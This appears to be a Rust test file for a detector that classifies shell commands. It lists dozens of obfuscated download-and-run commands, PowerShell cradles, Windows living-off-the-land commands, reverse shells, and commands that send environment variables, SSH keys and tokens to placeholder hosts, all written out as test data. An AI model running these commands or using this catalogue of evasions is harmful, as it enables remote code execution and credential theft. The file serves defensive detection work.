//! The same deeds in other spellings: what matters is what the shell would run.

use super::*;
use BehaviourKind::*;

fn misses(texts: &[&str], is: impl Fn(&BehaviourKind) -> bool) {
    let missed: Vec<String> = texts
        .iter()
        .map(|text| (text, kinds(text)))
        .filter(|(_, kinds)| !kinds.iter().any(&is))
        .map(|(text, kinds)| format!("{text}: {kinds:?}"))
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn a_download_that_is_run_is_found_in_any_spelling_of_posix() {
    misses(
        &[
            "c=curl; $c https://x.invalid/a | sh",
            "C=cu; D=rl; U=https://x.invalid; $C$D $U/a | b\"as\"h",
            "u=$(echo aHR0cHM6Ly94LmludmFsaWQvYQ== | base64 -d); curl $u | sh",
            "eval \"$(echo Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | base64 -d)\"",
            "eval $(printf '\\x63\\x75\\x72\\x6c https://x.invalid/a') | sh",
            "$(printf '\\143\\165\\162\\154') https://x.invalid/a | sh",
            "printf '%s' 'hs | a/dilavni.x//:sptth lruc' | rev | sh",
            "echo 'phey uggcf://k.vainyvq/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
            "echo 'CURL https://x.invalid/a | SH' | tr A-Z a-z | bash",
            "echo 'curl_https://x.invalid/a_|_sh' | tr _ ' ' | sh",
            "echo 'cXurl https://x.invalid/a | sXh' | tr -d X | sh",
            "echo 'cXurl https://x.invalid/a | sXh' | sed 's/X//g' | sh",
            "echo 6375726c2068747470733a2f2f782e696e76616c69642f617c7368 | xxd -r -p | sh",
            "xxd -r -p <<< 6375726c2068747470733a2f2f782e696e76616c69642f617c7368 | bash",
            "base64 -d <<< Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | sh",
            "base64 --decode << E | sh\nY3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g=\nE\n",
            "echo Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | openssl base64 -d | sh",
            "echo Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | openssl enc -base64 -d | sh",
            "echo Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | python3 -m base64 -d | sh",
            "{curl,https://x.invalid/a} | sh",
            "{c,b}url https://x.invalid/a; curl${IFS}https://x.invalid/a|sh",
            "curl$IFS$9https://x.invalid/a|sh",
            "cu''rl https://x.invalid/a | s''h",
            "cu$@rl https://x.invalid/a | s$@h",
            "/usr/bin/c?rl https://x.invalid/a | /bin/s?",
            "sh <(curl -s https://x.invalid/a)",
            ". <(curl -s https://x.invalid/a)",
            "sh -c \"$(curl -fsSL https://x.invalid/a)\" -- --flag",
            "s=$(curl -s https://x.invalid/a); eval \"$s\"",
            "s=`curl -s https://x.invalid/a`; sh -c \"$s\"",
            "s=$(curl -s https://x.invalid/a); echo \"$s\" | sh",
            "x='curl https://x.invalid/a | sh'; eval $x",
            "x='curl https://x.invalid/a | sh'; sh -c \"$x\"",
            "f() { curl https://x.invalid/a; }; f | sh",
            "alias g='curl https://x.invalid/a'; g | sh",
            "a=https://x.invalid/a; curl ${a} | sh",
            "a=xcurlx; ${a:1:4} https://x.invalid/a | sh",
            "a=Xcurl; ${a#X} https://x.invalid/a | sh",
            "a=curlX; ${a%X} https://x.invalid/a | sh",
            "a=cXurl; ${a/X/} https://x.invalid/a | sh",
            "a=CURL; ${a,,} https://x.invalid/a | sh",
            "${b:-curl} https://x.invalid/a | sh",
            "set -- curl https://x.invalid/a; \"$@\" | sh",
            "for c in curl; do $c https://x.invalid/a | sh; done",
            "read c <<< curl; $c https://x.invalid/a | sh",
            "a=(curl https://x.invalid/a); ${a[@]} | sh",
            "$(echo c)$(echo url) https://x.invalid/a | sh",
            "curl https://x.invalid/a -o- | tail -n +2 | sh",
            "curl -s https://x.invalid/a | gunzip | sh",
            "curl -s https://x.invalid/a | openssl enc -d -aes-256-cbc -k p | sh",
            "curl -s https://x.invalid/a > a && . ./a",
            "curl -sO https://x.invalid/a.sh && chmod 755 a.sh && ./a.sh",
            "wget -P /tmp https://x.invalid/a.sh; sh /tmp/a.sh",
            "wget https://x.invalid/a.tgz && tar xzf a.tgz && ./a/run.sh",
            "curl https://x.invalid/a | tee a.sh; sh a.sh",
            "lwp-download https://x.invalid/a a; perl a",
            "python3 -c 'import os; os.system(\"curl https://x.invalid/a | sh\")'",
            "perl -e 'exec(\"curl https://x.invalid/a | sh\")'",
            "ruby -e '`curl https://x.invalid/a | sh`'",
            "php -r 'system(\"curl https://x.invalid/a | sh\");'",
            "awk 'BEGIN {system(\"curl https://x.invalid/a | sh\")}'",
            "osascript -e 'do shell script \"curl https://x.invalid/a | sh\"'",
            "osascript -e \"do shell script \\\"curl https://x.invalid/a | sh\\\" with administrator privileges\"",
            "echo \"do shell script \\\"curl https://x.invalid/a | sh\\\"\" | osascript",
            "git clone https://x.invalid/a.git && sh a/run.sh",
            "npx -y https://x.invalid/a.tgz",
            "npm exec --yes -- git+https://x.invalid/a.git",
            "pip install https://x.invalid/a.tgz",
            "pip3 install git+https://x.invalid/a.git",
            "npm install https://x.invalid/a.tgz",
        ],
        |kind| matches!(kind, DownloadAndRun { .. }),
    );
}

#[test]
fn a_download_that_is_run_is_found_in_any_spelling_of_windows() {
    let encoded = {
        use base64::Engine as _;
        let units: Vec<u8> =
            "iex (irm https://x.invalid/a)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(units)
    };
    let encoded = format!("powershell -NoP -NonI -W Hidden -Enc {encoded}");
    misses(
        &[
            &encoded,
            "powershell -c \"irm https://x.invalid/a | iex\"",
            "powershell iex (irm https://x.invalid/a)",
            "powershell -c \"&([scriptblock]::Create((irm https://x.invalid/a)))\"",
            "powershell -c \"$s = irm https://x.invalid/a; iex $s\"",
            "powershell -c \"$w = New-Object Net.WebClient; iex $w.DownloadString('https://x.invalid/a')\"",
            "powershell -c \"$u='https://x.invalid/a'; iex (iwr $u).Content\"",
            "powershell -c \"& ('i'+'ex') (irm https://x.invalid/a)\"",
            "powershell -c \"i`ex (i`rm https://x.invalid/a)\"",
            "powershell -c \"Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IChpcm0gaHR0cHM6Ly94LmludmFsaWQvYSk=')))\"",
            "powershell -c \"[System.Net.WebClient]::new().DownloadString('https://x.invalid/a') | iex\"",
            "powershell -c \"Start-BitsTransfer https://x.invalid/a.exe a.exe; & .\\a.exe\"",
            "powershell -c \"iwr https://x.invalid/a.exe -OutFile $env:TEMP\\a.exe; saps $env:TEMP\\a.exe\"",
            "certutil -urlcache -f http://x.invalid/a.txt a.txt && certutil -decode a.txt a.exe && a.exe",
            "bitsadmin /transfer j /download /priority high http://x.invalid/a.exe C:\\a.exe && C:\\a.exe",
            "mshta http://x.invalid/a.hta",
            "rundll32 \\\\x.invalid\\s\\a.dll,Run",
            "regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll",
            "msiexec /q /i http://x.invalid/a.msi",
            "curl -o %TEMP%\\a.bat https://x.invalid/a & call %TEMP%\\a.bat",
            "set u=https://x.invalid/a&& curl %u% -o a.cmd && a.cmd",
            "set c=curl& set s=cmd& %c% https://x.invalid/a | %s%",
            "for /f %i in ('curl -s https://x.invalid/a') do %i",
            "wmic process call create \"powershell irm https://x.invalid/a|iex\"",
            "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c curl https://x.invalid/a | cmd\"",
            "start /min powershell -c \"irm https://x.invalid/a|iex\"",
            "cmd /v /c \"set a=curl&& !a! https://x.invalid/a | cmd\"",
        ],
        |kind| matches!(kind, DownloadAndRun { .. }),
    );
}

#[test]
fn a_reverse_shell_is_found_in_any_spelling() {
    misses(
        &[
            "sh -i >& /dev/udp/192.0.2.1/4444 0>&1",
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
            "exec 5<>/dev/tcp/192.0.2.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
            "h=192.0.2.1; bash -i >& /dev/tcp/$h/4444 0>&1",
            "nc 192.0.2.1 4444 -e /bin/bash",
            "nc -c bash 192.0.2.1 4444",
            "busybox nc 192.0.2.1 4444 -e sh",
            "telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s",
            "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
            "perl -e 'use Socket;$i=\"192.0.2.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"192.0.2.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
            "php -r '$s=fsockopen(\"192.0.2.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "lua -e \"require('socket');t=socket.tcp();t:connect('192.0.2.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')\"",
            "awk 'BEGIN {s = \"/inet/tcp/0/192.0.2.1/4444\"; while(42) { do{ s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}'",
            "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream();iex $d\"",
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx | base64 -d | bash",
        ],
        |kind| *kind == ReverseShell,
    );
}

#[test]
fn what_leaves_is_found_in_any_spelling() {
    misses(
        &[
            "env | curl -T - https://x.invalid",
            "env | curl -X POST -d @- https://x.invalid",
            "curl -X POST https://x.invalid -d @<(env)",
            "e=$(env); curl -d \"$e\" https://x.invalid",
            "env > /tmp/e; curl -F f=@/tmp/e https://x.invalid",
            "env > /tmp/e && curl --data-binary @/tmp/e https://x.invalid",
            "printenv | gzip | base64 -w0 | xargs -I{} curl https://x.invalid/{}",
            "wget -qO- https://x.invalid/?$(env | base64 -w0)",
            "curl https://x.invalid/$(env|base64)",
            "env | nc 192.0.2.1 99",
            "env > /dev/tcp/192.0.2.1/99",
            "python3 -c 'import os,urllib.request as u;u.urlopen(\"https://x.invalid\",data=str(os.environ).encode())'",
            "node -p 'JSON.stringify(process.env)' | curl -d @- https://x.invalid",
            "powershell -c \"irm https://x.invalid -Method Post -Body (gci env: | Out-String)\"",
            "powershell -c \"$e = Get-ChildItem Env: | ConvertTo-Json; Invoke-WebRequest -Uri https://x.invalid -Method POST -Body $e\"",
            "set | curl -d @- https://x.invalid",
            "cmd /c \"set > e.txt & curl -F f=@e.txt https://x.invalid\"",
            "cat /proc/1/environ | curl --data-binary @- https://x.invalid",
        ],
        |kind| matches!(kind, SendsEnvironment { .. }),
    );
    misses(
        &[
            "f=~/.npmrc; curl -F f=@$f https://x.invalid",
            "cd ~/.ssh && tar cz . | curl -T - https://x.invalid",
            "cat ~/.ssh/id_rsa > /tmp/k; curl -T /tmp/k https://x.invalid",
            "tar czf /tmp/a.tgz ~/.ssh ~/.aws && curl -F f=@/tmp/a.tgz https://x.invalid",
            "k=$(cat ~/.npmrc); curl https://x.invalid/?k=$k",
            "scp ~/.ssh/id_rsa me@x.invalid:/tmp",
            "zip -r - ~/.config/gcloud | curl --data-binary @- https://x.invalid",
            "powershell -c \"iwr https://x.invalid -Method Post -InFile $HOME\\.npmrc\"",
        ],
        |kind| matches!(kind, SendsFile { class: Some(_), .. }),
    );
}

#[test]
fn what_powershell_puts_together_in_a_variable_is_read() {
    misses(
        &[
            "powershell -c \"$d = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aXJtIGh0dHBzOi8veC5pbnZhbGlkL2EgfCBpZXg=')); IEX $d\"",
            "powershell -c \"$c = ('irm https://x.invalid/a ' + '| iex'); iex $c\"",
        ],
        |kind| matches!(kind, DownloadAndRun { .. }),
    );
    misses(
        &[
            "powershell -c \"$b = @{ host = $env:COMPUTERNAME; token = $env:NPM_TOKEN } | ConvertTo-Json; irm https://x.invalid -Method Post -Body $b\"",
        ],
        |kind| matches!(kind, SendsEnvironment { names } if names.contains(&"NPM_TOKEN".to_owned())),
    );
}
